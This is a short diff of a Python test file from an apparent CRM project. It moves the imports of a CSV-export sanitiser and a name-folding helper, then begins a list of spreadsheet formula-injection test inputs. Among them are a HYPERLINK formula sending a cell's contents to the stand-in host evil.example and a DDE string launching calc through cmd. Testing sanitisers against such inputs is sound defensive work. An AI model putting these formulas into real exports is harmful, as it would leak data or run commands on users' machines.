@@ -7,12 +7,12 @@ import io
 import pytest
 
 from crm.contacts.models import Contact
-from crm.csvexport import safe_cell
+from crm.core.csvexport import safe_cell
+from crm.core.names import fold_name
 from crm.db import utcnow
 from crm.events import services as events
 from crm.events.models import Event
 from crm.membership.models import City
-from crm.membership.names import fold_name
 from tests.membership.conftest import application_form
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)",
